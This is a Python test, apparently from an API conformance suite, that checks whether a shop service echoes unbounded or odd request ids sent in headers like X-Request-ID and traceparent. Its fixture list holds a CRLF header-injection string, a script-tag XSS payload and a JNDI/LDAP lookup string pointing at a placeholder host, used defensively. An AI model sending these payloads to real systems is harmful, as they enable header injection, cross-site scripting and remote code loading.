"""ERR-004: a request id of the client comes back only where it can do no harm."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import replace
from typing import Any, Final

from spec.checking.examination import Examination, verifies
from spec.checking.outcomes import Outcome
from spec.checks.support.foreign_ids import find_unbounded_echo, told_ids
from spec.target.exchange import Exchange
from spec.target.shop import Shop
from spec.target.steps import Verb
from spec.target.visitor import Unanswered

FIELDS: Final = ("X-Request-ID", "X-Correlation-ID", "Request-Id", "traceparent")
"""Header fields by which clients and proxies name a request."""
ODD_IDS: Final[Mapping[str, str]] = {
    "300 letters": "a1" * 150,
    "4000 letters": "b2" * 2000,
    "a line break": "abcdefgh%0d%0aX-Injected-Here:%20yes",
    "quotes": "abc\"def'ghi",
    "a tag": "<script>alert(1)</script>",
    "a lookup": "${jndi:ldap://elsewhere.example/a}",
    "spaces": "abc def ghi",
    "a tab": "abc\tdef\tghi",
    "a backslash": "abc\\ndefghi",
    "accents": "idéntitäten",
    "another alphabet": "идентификатор",
}


@verifies("ERR-004", effects={"reads"})
def test_an_odd_request_id_is_not_echoed(roomy: Shop, examine: Examination) -> None:
    """Ids that are long or have odd characters are sent in each usual header, on success, on errors and with HEAD.

    Beforehand a well-formed id is sent, which has to come back or be replaced, and two requests without one get two
    different ids.
    """
    visitor, verbs = roomy.visitor(), roomy.verbs
    listing = verbs.list_products(page_size=1)
    sound = "0f8fad5b-d9cb-469f-a165-70867728950e"
    answers = [
        visitor.provoke(listing),
        visitor.provoke(listing),
        visitor.provoke(listing.with_header(FIELDS[0], sound)),
    ]
    ids = [_ids_of(exchange) for exchange in answers]
    examine.require(all(ids), "the target tells no request ids, so none can be seen to be bounded")
    examine.that(ids[0] != ids[1], Outcome.WRONG_CONTENT, "an id of its own for each request", saw=answers[1])
    done = 0
    for verb in _asked(roomy, listing):
        for name in FIELDS:
            for kind, odd in ODD_IDS.items():
                exchange = visitor.provoke(verb.with_header(name, odd))
                if exchange.response is None:
                    raise Unanswered(exchange)
                found = find_unbounded_echo(exchange)
                examine.that(
                    not found,
                    Outcome.ECHOED_UNBOUNDED,
                    f"no echo of {kind} in {name}",
                    saw=exchange,
                    observed=f"{found} on {exchange.summary}",
                )
                done += 1
    examine.progress(done, done)


def _asked(shop: Shop, listing: Verb[Any]) -> Iterator[Verb[Any]]:
    """Yield what is asked with each id: a success, what is not there, what is not supported, and a page."""
    verbs = shop.verbs
    yield listing
    yield verbs.open_product(verbs.nobody("product"))
    yield listing.changed(lambda request: replace(request, method="HEAD"))
    yield listing.changed(lambda request: replace(request, method="DELETE", query=()))
    if verbs.offers("unknown_page"):
        yield verbs.unknown_page()
    if verbs.offers("documentation_page"):
        yield verbs.documentation_page()


def _ids_of(exchange: Exchange) -> list[str]:
    return told_ids(exchange.response) if exchange.response else []
